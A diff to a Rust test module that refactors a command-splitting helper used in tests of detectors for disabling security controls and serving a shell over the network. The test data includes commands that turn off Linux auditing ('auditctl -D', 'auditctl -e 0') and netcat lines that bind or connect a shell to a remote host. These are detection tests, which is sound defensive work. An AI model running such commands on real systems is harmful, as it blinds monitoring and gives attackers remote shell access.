@@ -5879,20 +5879,18 @@ mod tests {
         }
     }
 
-    /// A test command line's program and arguments, split at whitespace.
-    fn program_and_args(cmd: &str) -> (&str, Vec<&str>) {
+    /// `test(program, arguments)` of a test command line split at whitespace.
+    fn by_words(cmd: &str, test: fn(&str, &[&str]) -> bool) -> bool {
         let mut w = cmd.split_whitespace();
-        (w.next().unwrap_or_default(), w.collect())
+        let name = w.next().unwrap_or_default();
+        test(name, &w.collect::<Vec<_>>())
     }
 
     /// Session 24: turning a security control off, or forging a system file's times, is a
     /// step of its own; reloading, restarting or asking for a status is not.
     #[test]
     fn defenses_turned_off() {
-        let evades = |cmd: &str| {
-            let (name, args) = program_and_args(cmd);
-            evades_defenses(name, &args)
-        };
+        let evades = |cmd: &str| by_words(cmd, evades_defenses);
         for cmd in [
             "auditctl -D",
             "auditctl -e 0",
@@ -5936,10 +5934,7 @@ mod tests {
     /// connection is a step of its own, a decisive one.
     #[test]
     fn network_tools_serving_a_shell() {
-        let served = |cmd: &str| {
-            let (name, args) = program_and_args(cmd);
-            serves_shell(name, &args)
-        };
+        let served = |cmd: &str| by_words(cmd, serves_shell);
         for cmd in [
             "nc -lvp 4444 -e /bin/bash",
             "nc 203.0.113.9 443 -e/bin/sh",
